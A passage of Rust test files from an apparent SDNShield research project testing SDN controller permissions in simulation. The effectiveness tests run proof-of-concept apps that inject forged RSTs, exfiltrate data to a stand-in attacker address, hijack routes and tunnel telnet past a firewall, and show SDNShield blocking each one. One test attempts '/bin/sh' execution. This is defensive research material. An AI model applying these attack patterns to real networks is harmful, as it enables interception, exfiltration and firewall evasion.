            Ipv4::new(10, 0, 0, src as u8),
            Ipv4::new(10, 0, 0, (src % 3 + 1) as u8),
        ));
    }
    // …then unicast replies that trigger rule installation.
    frames.push(arp_reply(2, 1));
    frames.push(arp_reply(3, 1));
    frames.push(arp_reply(1, 2));
    frames
}

#[test]
fn l2_learning_converges_identically() {
    let baseline = {
        let c = MonolithicController::new(Network::new(builders::linear(3), 4096));
        c.register(
            Box::new(L2LearningSwitch::new()),
            &parse_manifest(L2_MANIFEST).unwrap(),
        );
        for f in stimuli() {
            c.inject_host_frame(f);
        }
        table_fingerprint(&c.kernel(), 3)
    };
    let shielded = {
        let c = ShieldedController::new(Network::new(builders::linear(3), 4096), 4);
        c.register(
            Box::new(L2LearningSwitch::new()),
            &parse_manifest(L2_MANIFEST).unwrap(),
        )
        .unwrap();
        for f in stimuli() {
            c.inject_host_frame(f);
            c.quiesce();
        }
        let fp = table_fingerprint(&c.kernel(), 3);
        c.shutdown();
        fp
    };
    assert!(!baseline.is_empty(), "stimuli installed rules");
    assert_eq!(baseline, shielded, "identical rules on both architectures");
}

#[test]
fn routing_app_converges_identically() {
    let tcp = |src: u64, dst: u64| {
        EthernetFrame::tcp(
            EthAddr::from_u64(src),
            EthAddr::from_u64(dst),
            Ipv4::new(10, 0, 0, src as u8),
            Ipv4::new(10, 0, 0, dst as u8),
            5000,
            80,
            TcpFlags::default(),
            bytes::Bytes::new(),
        )
    };
    let baseline = {
        let c = MonolithicController::new(Network::new(builders::linear(4), 4096));
        let (app, _trigger) = RoutingApp::new();
        c.register(Box::new(app), &parse_manifest(ROUTING_MANIFEST).unwrap());
        c.inject_host_frame(tcp(1, 4));
        c.inject_host_frame(tcp(4, 1));
        table_fingerprint(&c.kernel(), 4)
    };
    let shielded = {
        let c = ShieldedController::new(Network::new(builders::linear(4), 4096), 4);
        let (app, _trigger) = RoutingApp::new();
        c.register(Box::new(app), &parse_manifest(ROUTING_MANIFEST).unwrap())
            .unwrap();
        c.inject_host_frame(tcp(1, 4));
        c.quiesce();
        c.inject_host_frame(tcp(4, 1));
        c.quiesce();
        let fp = table_fingerprint(&c.kernel(), 4);
        c.shutdown();
        fp
    };
    assert!(!baseline.is_empty());
    assert_eq!(baseline, shielded);
}
