//! Cross-crate end-to-end tests: virtual-topology data planes, flow
//! lifecycles, multi-app interplay, and forensic accounting — the pieces the
//! attack tests don't already cover.

use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;

use bytes::Bytes;
use sdnshield::controller::app::{App, AppCtx};
use sdnshield::controller::events::Event;
use sdnshield::controller::ShieldedController;
use sdnshield::core::api::EventKind;
use sdnshield::core::parse_manifest;
use sdnshield::netsim::network::Network;
use sdnshield::netsim::topology::builders;
use sdnshield::openflow::actions::ActionList;
use sdnshield::openflow::flow_match::FlowMatch;
use sdnshield::openflow::messages::FlowMod;
use sdnshield::openflow::packet::{EthernetFrame, TcpFlags};
use sdnshield::openflow::types::{DatapathId, EthAddr, Ipv4, PortNo, Priority};

fn tcp(src: u64, dst: u64, dst_port: u16) -> EthernetFrame {
    EthernetFrame::tcp(
        EthAddr::from_u64(src),
        EthAddr::from_u64(dst),
        Ipv4::new(10, 0, 0, src as u8),
        Ipv4::new(10, 0, 0, dst as u8),
        50_000,
        dst_port,
        TcpFlags::default(),
        Bytes::from_static(b"payload"),
    )
}

/// A tenant app granted a single-big-switch view programs one virtual rule;
/// the physical data plane must then actually carry a packet end to end.
#[test]
fn virtual_big_switch_rules_carry_real_traffic() {
    struct Tenant;
    impl App for Tenant {
        fn name(&self) -> &str {
            "tenant"
        }
        fn on_start(&mut self, ctx: &AppCtx) {
            let view = ctx.read_topology().expect("topology");
            assert_eq!(view.switches.len(), 1, "one big switch");
            // External port 3 is host 3's attachment (deterministic order).
            ctx.insert_flow(
                view.switches[0].dpid,
                FlowMod::add(
                    FlowMatch::default().with_ip_dst(Ipv4::new(10, 0, 0, 3)),
                    Priority(50),
                    ActionList::output(PortNo(3)),
                ),
            )
            .expect("virtual rule accepted");
        }
    }
    let c = ShieldedController::new(Network::new(builders::linear(3), 1024), 4);
    c.register(
        Box::new(Tenant),
        &parse_manifest(
            "PERM visible_topology LIMITING VIRTUAL SINGLE_BIG_SWITCH\nPERM insert_flow",
        )
        .unwrap(),
    )
    .unwrap();
    // The translated rules must forward a real packet h1 → h3.
    c.inject_host_frame(tcp(1, 3, 80));
    c.quiesce();
    let delivered = c.kernel().host_received(EthAddr::from_u64(3));
    assert_eq!(delivered.len(), 1, "virtual rule carried the packet");
    c.shutdown();
}

/// Flow timeouts propagate: an app with `flow_event` sees the removal, and
/// the ownership tracker frees the quota.
#[test]
fn flow_lifecycle_with_timeouts_and_events() {
    struct Expirer {
        removals: Arc<AtomicUsize>,
    }
    impl App for Expirer {
        fn name(&self) -> &str {
            "expirer"
        }
        fn on_start(&mut self, ctx: &AppCtx) {
            ctx.subscribe(EventKind::Flow).unwrap();
            let mut fm = FlowMod::add(
                FlowMatch::default().with_tp_dst(80),
                Priority(10),
                ActionList::output(PortNo(1)),
            )
            .with_hard_timeout(5);
            fm.notify_when_removed = true;
            ctx.insert_flow(DatapathId(1), fm).unwrap();
        }
        fn on_event(&mut self, _ctx: &AppCtx, event: &Event) {
            if matches!(event, Event::FlowRemoved { .. }) {
                self.removals.fetch_add(1, Ordering::SeqCst);
            }
        }
    }
    let c = ShieldedController::new(Network::new(builders::linear(2), 1024), 4);
    let removals = Arc::new(AtomicUsize::new(0));
    c.register(
        Box::new(Expirer {
            removals: Arc::clone(&removals),
        }),
        &parse_manifest("PERM flow_event\nPERM insert_flow LIMITING MAX_RULE_COUNT 1").unwrap(),
    )
    .unwrap();
    assert_eq!(c.kernel().flow_count(DatapathId(1)), 1);
    c.advance_clock(10);
    c.quiesce();
    assert_eq!(removals.load(Ordering::SeqCst), 1, "flow-removed delivered");
    assert_eq!(c.kernel().flow_count(DatapathId(1)), 0);
    c.shutdown();
}

/// MAX_RULE_COUNT quota: the third insert is denied until an expiry frees
/// the budget — the tracker and the switch stay in sync.
#[test]
fn rule_quota_enforced_and_released() {
    struct QuotaApp {
        denied: Arc<AtomicUsize>,
    }
    impl App for QuotaApp {
        fn name(&self) -> &str {
            "quota"
        }
        fn on_start(&mut self, ctx: &AppCtx) {
            ctx.subscribe(EventKind::PacketIn).unwrap();
        }
        fn on_event(&mut self, ctx: &AppCtx, event: &Event) {
            let Event::PacketIn { packet_in, .. } = event else {
                return;
            };
            // Vary the rule by ingress port (the payload is stripped: this
            // manifest has no read_payload).
            let port = 1 + packet_in.in_port.0;
            let fm = FlowMod::add(
                FlowMatch::default().with_tp_dst(port),
                Priority(10),
                ActionList::output(PortNo(1)),
            )
            .with_hard_timeout(5);
            if ctx.insert_flow(DatapathId(1), fm).is_err() {
                self.denied.fetch_add(1, Ordering::SeqCst);
            }
        }
    }
    let c = ShieldedController::new(Network::new(builders::linear(2), 1024), 4);
    let denied = Arc::new(AtomicUsize::new(0));
    c.register(
        Box::new(QuotaApp {
            denied: Arc::clone(&denied),
        }),
        &parse_manifest("PERM pkt_in_event\nPERM insert_flow LIMITING MAX_RULE_COUNT 2").unwrap(),
    )
    .unwrap();
    // Three packet-ins with distinct payload lengths → three distinct rules
    // attempted; the quota is two.
    for port in [1u16, 2, 3] {
        let pi = sdnshield::openflow::messages::PacketIn {
            buffer_id: sdnshield::openflow::types::BufferId::NO_BUFFER,
            in_port: PortNo(port),
            reason: sdnshield::openflow::messages::PacketInReason::NoMatch,
            payload: Bytes::new(),
        };
        c.deliver_packet_in(DatapathId(1), pi);
    }
    assert_eq!(denied.load(Ordering::SeqCst), 1, "third insert denied");
    assert_eq!(c.kernel().flow_count(DatapathId(1)), 2);
    // Expire everything; the quota frees up.
    c.advance_clock(10);
    c.quiesce();
    let pi = sdnshield::openflow::messages::PacketIn {
        buffer_id: sdnshield::openflow::types::BufferId::NO_BUFFER,
        in_port: PortNo(4),
        reason: sdnshield::openflow::messages::PacketInReason::NoMatch,
        payload: Bytes::new(),
    };
    c.deliver_packet_in(DatapathId(1), pi);
    assert_eq!(denied.load(Ordering::SeqCst), 1, "insert allowed again");
    c.shutdown();
}

/// Two apps share the flow table: each sees only its own rules through an
/// OWN_FLOWS read filter, and neither can delete the other's.
#[test]
fn ownership_isolation_between_apps() {
    struct Owner {
        tp_dst: u16,
        visible: Arc<AtomicUsize>,
        foreign_delete_denied: Arc<AtomicUsize>,
    }
    impl App for Owner {
        fn name(&self) -> &str {
            "owner"
        }
        fn on_start(&mut self, ctx: &AppCtx) {
            ctx.subscribe(EventKind::PacketIn).unwrap();
            ctx.insert_flow(
                DatapathId(1),
                FlowMod::add(
                    FlowMatch::default().with_tp_dst(self.tp_dst),
                    Priority(10),
                    ActionList::output(PortNo(1)),
                ),
            )
            .unwrap();
        }
        fn on_event(&mut self, ctx: &AppCtx, event: &Event) {
            if !matches!(event, Event::PacketIn { .. }) {
                return;
            }
            let entries = ctx
                .read_flow_table(DatapathId(1), FlowMatch::any())
                .unwrap();
            self.visible.store(entries.len(), Ordering::SeqCst);
            // Try to delete everything — OWN_FLOWS must stop the wildcard.
            if ctx
                .delete_flow(DatapathId(1), FlowMod::delete(FlowMatch::any()))
                .is_err()
            {
                self.foreign_delete_denied.fetch_add(1, Ordering::SeqCst);
            }
        }
    }
    let manifest = parse_manifest(
        "PERM pkt_in_event\n\
         PERM insert_flow LIMITING OWN_FLOWS\n\
         PERM read_flow_table LIMITING OWN_FLOWS\n\
         PERM delete_flow LIMITING OWN_FLOWS",
    )
    .unwrap();
    let c = ShieldedController::new(Network::new(builders::linear(2), 1024), 4);
    let (va, vb) = (Arc::new(AtomicUsize::new(0)), Arc::new(AtomicUsize::new(0)));
    let (da, db) = (Arc::new(AtomicUsize::new(0)), Arc::new(AtomicUsize::new(0)));
    c.register(
        Box::new(Owner {
            tp_dst: 80,
            visible: Arc::clone(&va),
            foreign_delete_denied: Arc::clone(&da),
        }),
        &manifest,
    )
    .unwrap();
    c.register(
        Box::new(Owner {
            tp_dst: 443,
            visible: Arc::clone(&vb),
            foreign_delete_denied: Arc::clone(&db),
        }),
        &manifest,
    )
    .unwrap();
    assert_eq!(c.kernel().flow_count(DatapathId(1)), 2);
    let pi = sdnshield::openflow::messages::PacketIn {
        buffer_id: sdnshield::openflow::types::BufferId::NO_BUFFER,
        in_port: PortNo(1),
        reason: sdnshield::openflow::messages::PacketInReason::NoMatch,
        payload: Bytes::new(),
    };
    c.deliver_packet_in(DatapathId(1), pi);
    assert_eq!(va.load(Ordering::SeqCst), 1, "app A sees only its rule");
    assert_eq!(vb.load(Ordering::SeqCst), 1, "app B sees only its rule");
    assert_eq!(da.load(Ordering::SeqCst), 1, "wildcard delete denied for A");
    assert_eq!(db.load(Ordering::SeqCst), 1, "wildcard delete denied for B");
    assert_eq!(c.kernel().flow_count(DatapathId(1)), 2, "both rules intact");
    c.shutdown();
}

/// Packet-out provenance: FROM_PKT_IN allows replaying a received packet
/// but rejects a fabricated one.
#[test]
fn pkt_out_provenance_end_to_end() {
    struct Replayer {
        replay_ok: Arc<AtomicUsize>,
        forge_denied: Arc<AtomicUsize>,
        fired: bool,
    }
    impl App for Replayer {
        fn name(&self) -> &str {
            "replayer"
        }
        fn on_start(&mut self, ctx: &AppCtx) {
            ctx.subscribe(EventKind::PacketIn).unwrap();
        }
        fn on_event(&mut self, ctx: &AppCtx, event: &Event) {
            let Event::PacketIn { dpid, packet_in } = event else {
                return;
            };
            // React once: replaying generates fresh packet-ins, which would
            // otherwise ping-pong through the data plane forever.
            if self.fired {
                return;
            }
            self.fired = true;
            // Replaying the received payload is allowed…
            if ctx
                .packet_out_port(*dpid, PortNo(1), packet_in.payload.clone())
                .is_ok()
            {
                self.replay_ok.fetch_add(1, Ordering::SeqCst);
            }
            // …a fabricated one is not.
            let forged = tcp(9, 1, 9999).to_bytes();
            if ctx.packet_out_port(*dpid, PortNo(1), forged).is_err() {
                self.forge_denied.fetch_add(1, Ordering::SeqCst);
            }
        }
    }
    let c = ShieldedController::new(Network::new(builders::linear(2), 1024), 4);
    let replay_ok = Arc::new(AtomicUsize::new(0));
    let forge_denied = Arc::new(AtomicUsize::new(0));
    c.register(
        Box::new(Replayer {
            replay_ok: Arc::clone(&replay_ok),
            forge_denied: Arc::clone(&forge_denied),
            fired: false,
        }),
        &parse_manifest(
            "PERM pkt_in_event\nPERM read_payload\nPERM send_pkt_out LIMITING FROM_PKT_IN",
        )
        .unwrap(),
    )
    .unwrap();
    c.inject_host_frame(tcp(1, 2, 80));
    c.quiesce();
    assert_eq!(replay_ok.load(Ordering::SeqCst), 1);
    assert_eq!(forge_denied.load(Ordering::SeqCst), 1);
    c.shutdown();
}

/// Host-system tokens gate file and process access independently.
#[test]
fn host_system_tokens_gate_files_and_processes() {
    struct HostPoker {
        results: Arc<parking_lot::Mutex<Vec<(&'static str, bool)>>>,
    }
    impl App for HostPoker {
        fn name(&self) -> &str {
            "host-poker"
        }
        fn on_start(&mut self, ctx: &AppCtx) {
            let mut r = self.results.lock();
            r.push(("file", ctx.open_file("/etc/controller.conf", false).is_ok()));
            r.push(("exec", ctx.exec("/bin/sh").is_ok()));
        }
    }
    let c = ShieldedController::new(Network::new(builders::linear(2), 64), 2);
    let results = Arc::new(parking_lot::Mutex::new(Vec::new()));
    c.register(
        Box::new(HostPoker {
            results: Arc::clone(&results),
        }),
        &parse_manifest("PERM file_system").unwrap(),
    )
    .unwrap();
    let r = results.lock().clone();
    assert_eq!(r, vec![("file", true), ("exec", false)]);
    c.shutdown();
}

/// Link failure: the topology service reflects the loss, subscribed apps are
/// notified from the real state change, and a routing app can re-route
/// around the failure.
#[test]
fn link_failure_triggers_rerouting() {
    use sdnshield::apps::routing::{RoutingApp, ROUTING_MANIFEST};
    // A diamond: 1-2-4 and 1-3-4 are alternate paths (mesh of 4 minus
    // nothing — use mesh so an alternate exists).
    let c = ShieldedController::new(Network::new(builders::mesh(4), 4096), 4);
    let (app, _trigger) = RoutingApp::new();
    c.register(Box::new(app), &parse_manifest(ROUTING_MANIFEST).unwrap())
        .unwrap();
    // First flow 1→4 routes over the direct link.
    c.inject_host_frame(tcp(1, 4, 80));
    c.quiesce();
    assert_eq!(c.kernel().host_received(EthAddr::from_u64(4)).len(), 1);
    // The direct link dies; old rules are stale, so clear them (the test
    // models the operator flushing after failure) and resend.
    assert!(c.fail_link(DatapathId(1), DatapathId(4)));
    assert!(!c.fail_link(DatapathId(1), DatapathId(4)), "already gone");
    c.kernel().with_network(|n| {
        assert!(n
            .topology()
            .link_between(DatapathId(1), DatapathId(4))
            .is_none());
    });
    // New flow to a fresh destination must route around the dead link.
    c.inject_host_frame(tcp(4, 1, 443));
    c.quiesce();
    let delivered = c.kernel().host_received(EthAddr::from_u64(1));
    assert_eq!(delivered.len(), 1, "re-routed around the failed link");
    c.shutdown();
}
