//! Effectiveness evaluation (paper §IX-B1, Table I): the four
//! proof-of-concept attack apps succeed on the unmodified (monolithic)
//! controller and are blocked on SDNShield under least-privilege
//! permissions.
//!
//! Each test verifies the attack at the *data-plane / host level* where
//! possible (forged RST delivered to the victim's NIC, bytes exfiltrated off
//! host, foreign rules overridden, blocked traffic smuggled through the
//! firewall), not just at the API return code.

use bytes::Bytes;
use sdnshield::apps::attacks::{FlowTunnelApp, InfoLeakApp, RouteHijackApp, SniffInjectApp};
use sdnshield::controller::app::{App, AppCtx};
use sdnshield::controller::{MonolithicController, ShieldedController};
use sdnshield::core::api::EventKind;
use sdnshield::core::{parse_manifest, PermissionSet};
use sdnshield::netsim::network::Network;
use sdnshield::netsim::topology::builders;
use sdnshield::openflow::actions::ActionList;
use sdnshield::openflow::flow_match::FlowMatch;
use sdnshield::openflow::messages::FlowMod;
use sdnshield::openflow::packet::{EthPayload, EthernetFrame, IpPayload, TcpFlags};
use sdnshield::openflow::types::{DatapathId, EthAddr, Ipv4, PortNo, Priority};

fn http_frame(src: u64, dst: u64) -> EthernetFrame {
    EthernetFrame::tcp(
        EthAddr::from_u64(src),
        EthAddr::from_u64(dst),
        Ipv4::new(10, 0, 0, src as u8),
        Ipv4::new(10, 0, 0, dst as u8),
        43210,
        80,
        TcpFlags::default(),
        Bytes::from_static(b"GET / HTTP/1.0\r\n\r\n"),
    )
}

fn telnet_frame(src: u64, dst: u64) -> EthernetFrame {
    EthernetFrame::tcp(
        EthAddr::from_u64(src),
        EthAddr::from_u64(dst),
        Ipv4::new(10, 0, 0, src as u8),
        Ipv4::new(10, 0, 0, dst as u8),
        40000,
        23,
        TcpFlags::default(),
        Bytes::from_static(b"login"),
    )
}

/// A helper app standing in for the legitimate forwarding pipeline: installs
/// a static path so victim traffic flows, and (in the tunnel scenario) the
/// firewall drop rule.
struct Provisioner {
    rules: Vec<(DatapathId, FlowMod)>,
}

impl App for Provisioner {
    fn name(&self) -> &str {
        "provisioner"
    }
    fn on_start(&mut self, ctx: &AppCtx) {
        for (dpid, fm) in self.rules.drain(..) {
            ctx.insert_flow(dpid, fm).expect("provisioning allowed");
        }
        let _ = ctx.subscribe(EventKind::PacketIn);
    }
}

/// Forwarding rules for a 3-switch linear network carrying h1→h3 traffic.
fn linear3_path_rules() -> Vec<(DatapathId, FlowMod)> {
    // linear(3): host i on switch i; inter-switch ports discovered by
    // convention of the builder: s1:p1→s2, s2:p2→s3 (port 1 is s2's link to
    // s1). We install destination-IP rules toward h3 and h1.
    vec![
        (
            DatapathId(1),
            FlowMod::add(
                FlowMatch::default().with_ip_dst(Ipv4::new(10, 0, 0, 3)),
                Priority(100),
                ActionList::output(PortNo(1)), // s1 port1 → s2
            ),
        ),
        (
            DatapathId(2),
            FlowMod::add(
                FlowMatch::default().with_ip_dst(Ipv4::new(10, 0, 0, 3)),
                Priority(100),
                ActionList::output(PortNo(2)), // s2 port2 → s3
            ),
        ),
        (
            DatapathId(3),
            FlowMod::add(
                FlowMatch::default().with_ip_dst(Ipv4::new(10, 0, 0, 3)),
                Priority(100),
                ActionList::output(PortNo(2)), // s3 port2 → h3
            ),
        ),
    ]
}

// ---------------------------------------------------------------------------
// Class 1: sniff + inject.
// ---------------------------------------------------------------------------

#[test]
fn class1_succeeds_on_baseline() {
    let c = MonolithicController::new(Network::new(builders::linear(3), 1024));
    c.register(
        Box::new(Provisioner {
            rules: linear3_path_rules(),
        }),
        &PermissionSet::new(),
    );
    let (sniff, stats) = SniffInjectApp::new();
    c.register(Box::new(sniff), &PermissionSet::new());
    // h1's HTTP packet to h3 flows along the path, but ALSO wake the sniffer
    // via a direct packet-in copy (the sniffer sees controller traffic).
    c.inject_host_frame(http_frame(1, 3));
    // The path delivered the packet — force a packet-in by sending from an
    // unprovisioned direction so the sniffer sees the flow.
    c.inject_host_frame(http_frame(3, 1));
    let s = stats.lock();
    assert!(s.attempts >= 1, "sniffer saw HTTP traffic");
    assert_eq!(s.successes, s.attempts, "baseline lets injection through");
    drop(s);
    // The forged RST physically reached the victim h3's NIC.
    let received = c.kernel().host_received(EthAddr::from_u64(3));
    let got_rst = received.iter().any(|f| match &f.payload {
        EthPayload::Ipv4(ip) => matches!(&ip.payload, IpPayload::Tcp(t) if t.flags.rst),
        _ => false,
    });
    assert!(got_rst, "victim received the forged RST on the baseline");
}

#[test]
fn class1_blocked_on_sdnshield() {
    let c = ShieldedController::new(Network::new(builders::linear(3), 1024), 4);
    c.register(
        Box::new(Provisioner {
            rules: linear3_path_rules(),
        }),
        &parse_manifest("PERM insert_flow\nPERM pkt_in_event").unwrap(),
    )
    .unwrap();
    let (sniff, stats) = SniffInjectApp::new();
    // Least privilege: the app may observe packet-ins and payloads but has
    // no send_pkt_out — the §III Class-1 defense.
    c.register(
        Box::new(sniff),
        &parse_manifest("PERM pkt_in_event\nPERM read_payload").unwrap(),
    )
    .unwrap();
    c.inject_host_frame(http_frame(3, 1));
    c.quiesce();
    let s = stats.lock();
    assert!(s.attempts >= 1, "sniffer still sees and tries");
    assert_eq!(s.successes, 0, "every injection denied");
    drop(s);
    let received = c.kernel().host_received(EthAddr::from_u64(3));
    let got_rst = received.iter().any(|f| match &f.payload {
        EthPayload::Ipv4(ip) => matches!(&ip.payload, IpPayload::Tcp(t) if t.flags.rst),
        _ => false,
    });
    assert!(!got_rst, "no forged RST reached any host");
    c.shutdown();
}

#[test]
fn class1_neutered_without_read_payload() {
    // Even the sniffing half dies without `read_payload`: the payload is
    // stripped before delivery, so the attacker has nothing to forge from.
    let c = ShieldedController::new(Network::new(builders::linear(3), 1024), 4);
    let (sniff, stats) = SniffInjectApp::new();
    c.register(
        Box::new(sniff),
        &parse_manifest("PERM pkt_in_event\nPERM send_pkt_out").unwrap(),
    )
    .unwrap();
    c.inject_host_frame(http_frame(1, 3));
    c.quiesce();
    assert_eq!(stats.lock().attempts, 0, "nothing sniffable, no attempts");
    c.shutdown();
}

// ---------------------------------------------------------------------------
// Class 2: information leakage.
// ---------------------------------------------------------------------------

const ATTACKER_IP: Ipv4 = Ipv4::new(203, 0, 113, 66);

#[test]
fn class2_succeeds_on_baseline() {
    let c = MonolithicController::new(Network::new(builders::linear(3), 1024));
    let (leak, stats) = InfoLeakApp::new((ATTACKER_IP, 8080));
    let app_id = c.register(Box::new(leak), &PermissionSet::new());
    c.deliver_topology_change("wake");
    assert!(stats.lock().successes >= 1);
    assert!(
        c.kernel().bytes_exfiltrated_by(app_id) > 0,
        "bytes left the host on the baseline"
    );
}

#[test]
fn class2_blocked_on_sdnshield() {
    let c = ShieldedController::new(Network::new(builders::linear(3), 1024), 4);
    let (leak, stats) = InfoLeakApp::new((ATTACKER_IP, 8080));
    // Scenario-1 style grant: reads allowed, host network confined to the
    // admin subnet — the attacker's address is outside it.
    let manifest = parse_manifest(
        "PERM topology_event\nPERM visible_topology\nPERM read_statistics\n\
         PERM network_access LIMITING IP_DST 10.1.0.0 MASK 255.255.0.0",
    )
    .unwrap();
    let app_id = c.register(Box::new(leak), &manifest).unwrap();
    c.deliver_topology_change("wake");
    c.quiesce();
    let s = stats.lock();
    assert!(s.attempts >= 1);
    assert_eq!(s.successes, 0, "connect to attacker denied");
    drop(s);
    assert_eq!(
        c.kernel().bytes_exfiltrated_by(app_id),
        0,
        "zero bytes escaped"
    );
    // Forensics: the audit log shows the denied host_connect.
    let denials: Vec<_> = c
        .kernel()
        .audit_records_since(0)
        .into_iter()
        .filter(|r| {
            r.app == app_id && r.outcome == sdnshield::controller::audit::AuditOutcome::Denied
        })
        .collect();
    assert!(!denials.is_empty(), "denial was audited");
    c.shutdown();
}

// ---------------------------------------------------------------------------
// Class 3: rule manipulation / route hijack.
// ---------------------------------------------------------------------------

#[test]
fn class3_succeeds_on_baseline() {
    let c = MonolithicController::new(Network::new(builders::linear(3), 1024));
    c.register(
        Box::new(Provisioner {
            rules: linear3_path_rules(),
        }),
        &PermissionSet::new(),
    );
    // Detour h3-bound traffic at s2 back to s1 (the "attacker's" side).
    let (hijack, stats) = RouteHijackApp::new(Ipv4::new(10, 0, 0, 3), (DatapathId(2), PortNo(1)));
    c.register(Box::new(hijack), &PermissionSet::new());
    c.deliver_topology_change("wake");
    assert!(stats.lock().successes >= 1, "hijack rule accepted");
    // The detour rule outranks the legitimate one.
    c.kernel().with_network(|n| {
        let top = n
            .switch(DatapathId(2))
            .unwrap()
            .table()
            .iter()
            .next()
            .unwrap()
            .clone();
        assert_eq!(top.priority, Priority(900), "attacker rule on top");
    });
}

#[test]
fn class3_blocked_on_sdnshield() {
    let c = ShieldedController::new(Network::new(builders::linear(3), 1024), 4);
    c.register(
        Box::new(Provisioner {
            rules: linear3_path_rules(),
        }),
        &parse_manifest("PERM insert_flow\nPERM pkt_in_event").unwrap(),
    )
    .unwrap();
    let (hijack, stats) = RouteHijackApp::new(Ipv4::new(10, 0, 0, 3), (DatapathId(2), PortNo(1)));
    // Scenario-2 style grant: may route, but only its own flows.
    c.register(
        Box::new(hijack),
        &parse_manifest(
            "PERM topology_event\nPERM insert_flow LIMITING ACTION FORWARD AND OWN_FLOWS",
        )
        .unwrap(),
    )
    .unwrap();
    c.deliver_topology_change("wake");
    c.quiesce();
    let s = stats.lock();
    assert!(s.attempts >= 1);
    assert_eq!(s.successes, 0, "overriding a foreign rule denied");
    drop(s);
    // The legitimate rule still rules.
    c.kernel().with_network(|n| {
        let top = n
            .switch(DatapathId(2))
            .unwrap()
            .table()
            .iter()
            .next()
            .unwrap()
            .clone();
        assert_eq!(top.priority, Priority(100), "legitimate rule intact");
    });
    c.shutdown();
}

// ---------------------------------------------------------------------------
// Class 4: dynamic-flow tunneling through a firewall.
// ---------------------------------------------------------------------------

/// Firewall rules on s2: allow port 80 through, drop everything else TCP.
fn firewall_rules() -> Vec<(DatapathId, FlowMod)> {
    vec![
        (
            DatapathId(2),
            FlowMod::add(
                FlowMatch::default().with_tp_dst(80),
                Priority(300),
                ActionList::output(PortNo(2)), // toward s3
            ),
        ),
        (
            DatapathId(2),
            FlowMod::add(
                FlowMatch::default().with_ip_proto(6),
                Priority(200),
                ActionList::drop(),
            ),
        ),
    ]
}

#[test]
fn class4_succeeds_on_baseline() {
    let c = MonolithicController::new(Network::new(builders::linear(3), 1024));
    let mut rules = linear3_path_rules();
    rules.extend(firewall_rules());
    c.register(Box::new(Provisioner { rules }), &PermissionSet::new());
    // Sanity: telnet from h1 dies at the firewall before the tunnel exists.
    c.inject_host_frame(telnet_frame(1, 3));
    assert!(
        c.kernel().host_received(EthAddr::from_u64(3)).is_empty(),
        "firewall drops telnet"
    );
    // The tunnel app disguises telnet as HTTP at s1 and restores at s3.
    let (tunnel, stats) = FlowTunnelApp::new(
        DatapathId(1),
        DatapathId(3),
        23,
        80,
        (PortNo(1), PortNo(2)), // s1→s2, s3→h3
    );
    c.register(Box::new(tunnel), &PermissionSet::new());
    c.deliver_topology_change("wake");
    assert!(stats.lock().successes >= 1);
    c.inject_host_frame(telnet_frame(1, 3));
    let received = c.kernel().host_received(EthAddr::from_u64(3));
    let tunneled = received.iter().any(|f| match &f.payload {
        EthPayload::Ipv4(ip) => matches!(&ip.payload, IpPayload::Tcp(t) if t.dst_port == 23),
        _ => false,
    });
    assert!(
        tunneled,
        "telnet smuggled through the port-80-only firewall"
    );
}

#[test]
fn class4_blocked_on_sdnshield() {
    let c = ShieldedController::new(Network::new(builders::linear(3), 1024), 4);
    let mut rules = linear3_path_rules();
    rules.extend(firewall_rules());
    c.register(
        Box::new(Provisioner { rules }),
        &parse_manifest("PERM insert_flow\nPERM pkt_in_event").unwrap(),
    )
    .unwrap();
    let (tunnel, stats) =
        FlowTunnelApp::new(DatapathId(1), DatapathId(3), 23, 80, (PortNo(1), PortNo(2)));
    // Forwarding-only grant: the header-rewrite tunnel rules violate
    // ACTION FORWARD.
    c.register(
        Box::new(tunnel),
        &parse_manifest("PERM topology_event\nPERM insert_flow LIMITING ACTION FORWARD").unwrap(),
    )
    .unwrap();
    c.deliver_topology_change("wake");
    c.quiesce();
    let s = stats.lock();
    assert!(s.attempts >= 1);
    assert_eq!(s.successes, 0, "rewrite rules denied");
    drop(s);
    // Telnet still dies at the firewall.
    c.inject_host_frame(telnet_frame(1, 3));
    c.quiesce();
    assert!(
        c.kernel().host_received(EthAddr::from_u64(3)).is_empty(),
        "firewall holds"
    );
    c.shutdown();
}

// ---------------------------------------------------------------------------
// The Table-I matrix, mechanically.
// ---------------------------------------------------------------------------

/// Runs all four attacks on both controllers and asserts the paper's
/// Table-I row for SDNShield: baseline vulnerable to all four classes,
/// SDNShield immune to all four.
#[test]
fn table1_coverage_matrix() {
    let mut matrix: Vec<(&str, bool, bool)> = Vec::new(); // (class, baseline, shielded)

    // Baseline run.
    {
        let c = MonolithicController::new(Network::new(builders::linear(3), 1024));
        let mut rules = linear3_path_rules();
        rules.extend(firewall_rules());
        c.register(Box::new(Provisioner { rules }), &PermissionSet::new());
        let (sniff, s1) = SniffInjectApp::new();
        let (leak, s2) = InfoLeakApp::new((ATTACKER_IP, 8080));
        let (hijack, s3) = RouteHijackApp::new(Ipv4::new(10, 0, 0, 3), (DatapathId(2), PortNo(1)));
        let (tunnel, s4) =
            FlowTunnelApp::new(DatapathId(1), DatapathId(3), 23, 80, (PortNo(1), PortNo(2)));
        c.register(Box::new(sniff), &PermissionSet::new());
        c.register(Box::new(leak), &PermissionSet::new());
        c.register(Box::new(hijack), &PermissionSet::new());
        c.register(Box::new(tunnel), &PermissionSet::new());
        // Wake the sniffer before the tunnel rewrites s3's table (its exit
        // rule would otherwise swallow the HTTP frame before it punts).
        c.inject_host_frame(http_frame(3, 1));
        c.deliver_topology_change("wake");
        for (name, s) in [
            ("class1", &s1),
            ("class2", &s2),
            ("class3", &s3),
            ("class4", &s4),
        ] {
            let st = s.lock();
            assert!(st.attempts > 0, "{name} never woke on the baseline");
            matrix.push((name, st.successes > 0, false));
        }
    }

    // Shielded run with least-privilege grants.
    {
        let c = ShieldedController::new(Network::new(builders::linear(3), 1024), 4);
        let mut rules = linear3_path_rules();
        rules.extend(firewall_rules());
        c.register(
            Box::new(Provisioner { rules }),
            &parse_manifest("PERM insert_flow\nPERM pkt_in_event").unwrap(),
        )
        .unwrap();
        let (sniff, s1) = SniffInjectApp::new();
        let (leak, s2) = InfoLeakApp::new((ATTACKER_IP, 8080));
        let (hijack, s3) = RouteHijackApp::new(Ipv4::new(10, 0, 0, 3), (DatapathId(2), PortNo(1)));
        let (tunnel, s4) =
            FlowTunnelApp::new(DatapathId(1), DatapathId(3), 23, 80, (PortNo(1), PortNo(2)));
        c.register(
            Box::new(sniff),
            &parse_manifest("PERM pkt_in_event\nPERM read_payload").unwrap(),
        )
        .unwrap();
        c.register(
            Box::new(leak),
            &parse_manifest(
                "PERM topology_event\nPERM visible_topology\nPERM read_statistics\n\
